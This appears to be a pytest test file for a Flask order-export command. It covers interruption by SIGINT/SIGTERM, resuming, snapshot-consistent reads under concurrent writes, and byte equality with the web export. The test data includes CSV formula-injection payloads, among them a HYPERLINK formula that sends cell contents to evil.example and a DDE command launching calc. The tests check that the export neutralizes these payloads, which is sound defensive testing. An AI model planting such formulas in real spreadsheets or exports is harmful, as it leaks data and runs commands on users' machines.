"""`flask --app app export` as a real process: interrupted by a signal, resumed, consistent.

- Interrupted mid-export with SIGINT, then again with SIGTERM: each run stops at a batch
  boundary, exits 130 and prints the cursor to resume from; the resumed runs append to the same
  file, and the file ends up byte for byte equal to an uninterrupted export.
- `--consistent` reads one snapshot: rows another connection inserts or deletes while the
  export runs do not change it. The export is held mid-way honestly, by backpressure: its
  standard output is a pipe the test stops reading, so the process blocks writing after the
  first batches (the pipe holds 64 KiB) while the test writes to the table.
- GET /orders/export.csv serves the same bytes as the command.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import delete, insert, select
from sqlalchemy.orm import Session

from orders.db import make_engine, migrate
from orders.models import Order
from orders.seed import seed_orders
from orders.sorts import KEYSETS

from .databases import ENGINES, throwaway_database
from .fixtures import SECRET, make_app

ROOT = Path(__file__).resolve().parent.parent
ROWS = 10_000
NOW = dt.datetime(2026, 3, 11, 10, 39, tzinfo=dt.UTC)
RESUME = re.compile(r"interrupted after ([\d,]+) rows; resume with: --after (\S+)")


@pytest.fixture(scope="module", params=ENGINES)
def export_db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A database with 10,000 orders, three a minute (ties), shared by the read-only tests."""
    with throwaway_database(request.param, tmp_path_factory.mktemp("export"), "export") as url:
        seeded(url, ROWS)
        yield url


# Names a spreadsheet would run as formulas, spread through the table: every export below writes
# them neutralized (a leading '), so the byte-for-byte comparisons cover neutralized cells too.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    '+cmd|" /C calc"!A0',
    "@SUM(1+1)",
    "-1+2",
    "\tx",
]


def seeded(url: str, rows: int) -> None:
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as session:
        seed_orders(session, rows, now=NOW)
        ids = list(session.scalars(select(Order.id).order_by(Order.id)))
        for i, order_id in enumerate(ids[:: max(1, len(ids) // 50)]):
            session.get(Order, order_id).customer = FORMULAS[i % len(FORMULAS)]
        session.commit()
    engine.dispose()


def export(url: str, *args: str, **popen: object) -> subprocess.Popen:
    env = {**os.environ, "DATABASE_URL": url, "SECRET_KEY": SECRET}
    env.pop("APP_ENV", None)
    command = [sys.executable, "-m", "flask", "--app", "app", "export", *args]
    return subprocess.Popen(command, cwd=ROOT, env=env, stderr=subprocess.PIPE, **popen)  # type: ignore[call-overload]


def finish(process: subprocess.Popen, timeout: float = 120) -> tuple[bytes, str]:
    """Wait for the process; (its standard output as bytes, its standard error as text)."""
    out, err = process.communicate(timeout=timeout)
    return out or b"", err.decode()


def export_done(url: str, *args: str) -> tuple[bytes, str]:
    """Run an export to the end; (standard output, standard error)."""
    process = export(url, *args, stdout=subprocess.PIPE)
    out, err = finish(process)
    assert process.returncode == 0, err
    return out, err


def interrupt_when_growing(url: str, output: Path, sig: signal.Signals, *args: str) -> tuple[int, str]:
    """Start an export to `output`, send `sig` once it has written a few batches; (rows, cursor)."""
    size_before = output.stat().st_size if output.exists() else 0
    process = export(url, "--output", str(output), "--batch-size", "50", *args, stdout=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not output.exists() or output.stat().st_size < size_before + 10_000:
        assert process.poll() is None, "the export ended before it could be interrupted"
        assert time.monotonic() < deadline, "the export never started writing"
        time.sleep(0.002)
    process.send_signal(sig)
    _, err = finish(process)
    assert process.returncode == 130, err
    match = RESUME.search(err)
    assert match, err
    return int(match.group(1).replace(",", "")), match.group(2)


def ids_of(csv_bytes: bytes) -> list[int]:
    rows = list(csv.reader(io.StringIO(csv_bytes.decode(), newline="")))
    assert rows[0] == ["id", "customer", "amount", "status", "created_at"]
    assert not any(row[1].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    return [int(row[0]) for row in rows[1:]]


def test_interrupted_twice_and_resumed_equals_an_uninterrupted_export(export_db: str, tmp_path: Path) -> None:
    full, err = export_done(export_db, "--batch-size", "50")
    assert f"exported {ROWS:,} rows" in err
    assert len(ids_of(full)) == ROWS
    customers = [row[1] for row in csv.reader(io.StringIO(full.decode(), newline=""))]
    assert customers.count("'" + FORMULAS[0]) >= 10  # neutralized, not dropped

    part = tmp_path / "orders.csv"
    first, cursor = interrupt_when_growing(export_db, part, signal.SIGINT)
    wrong = export(export_db, "--sort", "amount", "--after", cursor, stdout=subprocess.PIPE)
    _, err = finish(wrong)
    assert wrong.returncode == 2 and "--after" in err and "sort" in err, err  # a usage error
    second, cursor = interrupt_when_growing(export_db, part, signal.SIGTERM, "--after", cursor)
    assert first > 0 and second > 0 and first + second < ROWS, (first, second)
    process = export(export_db, "--output", str(part), "--after", cursor, stdout=subprocess.DEVNULL)
    _, err = finish(process)
    assert process.returncode == 0, err
    assert f"exported {ROWS - first - second:,} rows" in err
    assert part.read_bytes() == full


@pytest.mark.parametrize(("sort", "status"), [("newest", None), ("customer", "paid")])
def test_web_export_serves_the_same_bytes_as_the_command(
    export_db: str, sort: str, status: str | None
) -> None:
    args = ["--sort", sort, *(["--status", status] if status else [])]
    cli_bytes, _ = export_done(export_db, *args)
    app = make_app(export_db)
    response = app.test_client().get(
        "/orders/export.csv", query_string={"sort": sort, "status": status or ""}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data() == cli_bytes
    app.extensions["engine"].dispose()


# --- One snapshot, or not -----------------------------------------------------------------------

SNAPSHOT_ROWS = 5000  # about 300 KB of CSV: far more than a pipe holds


@pytest.fixture(params=ENGINES)
def fresh_db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, str]]:
    with throwaway_database(request.param, tmp_path, "snapshot") as url:
        seeded(url, SNAPSHOT_ROWS)
        yield request.param, url


def writes_during_export(url: str, *args: str) -> tuple[list[int], list[int], list[int], list[int]]:
    """Export (newest first) while another connection deletes the 30 oldest orders and inserts
    30 older still: both at the tail, which the export reads last.
    Returns (ids before the writes, ids exported, ids deleted, ids inserted)."""
    engine = make_engine(url)
    newest = KEYSETS["newest"].order_by()
    with Session(engine) as session:
        before = list(session.scalars(select(Order.id).order_by(*newest)))
    process = export(url, "--batch-size", "50", *args, stdout=subprocess.PIPE)
    assert process.stdout is not None
    # The export has read its first batches once this much arrived; then it blocks. (os.read:
    # communicate() reads the file descriptor, so nothing may sit in a Python-side buffer.)
    head = b""
    while len(head) < 4096:
        chunk = os.read(process.stdout.fileno(), 4096)
        assert chunk, "the export ended early"
        head += chunk
    oldest = NOW - dt.timedelta(days=365)
    with Session(engine) as session:
        deleted = before[-30:]
        session.execute(delete(Order).where(Order.id.in_(deleted)))
        rows = [
            {
                "customer": "Late",
                "amount": 1,
                "status": "paid",
                "created_at": oldest - dt.timedelta(minutes=i),
            }
            for i in range(30)
        ]
        session.execute(insert(Order), rows)
        session.commit()
        inserted = list(session.scalars(select(Order.id).where(Order.customer == "Late")))
    engine.dispose()
    rest, err = finish(process)
    assert process.returncode == 0, err
    return before, ids_of(head + rest), deleted, inserted


def test_consistent_export_ignores_writes_made_while_it_runs(fresh_db: tuple[str, str]) -> None:
    _, url = fresh_db
    before, exported, _, _ = writes_during_export(url, "--consistent")
    assert exported == before


def test_plain_export_may_see_writes_made_while_it_runs(fresh_db: tuple[str, str]) -> None:
    """Documents what an export without --consistent does: each batch is read in a short
    transaction of its own (so a slow download holds nothing between batches), on every engine,
    MariaDB included. Rows deleted ahead of the export are gone, rows inserted ahead of it
    appear, every row that existed throughout appears exactly once."""
    _, url = fresh_db
    before, exported, deleted, inserted = writes_during_export(url)
    assert len(exported) == len(set(exported))
    assert exported == [i for i in before if i not in deleted] + sorted(inserted)  # each older than the last
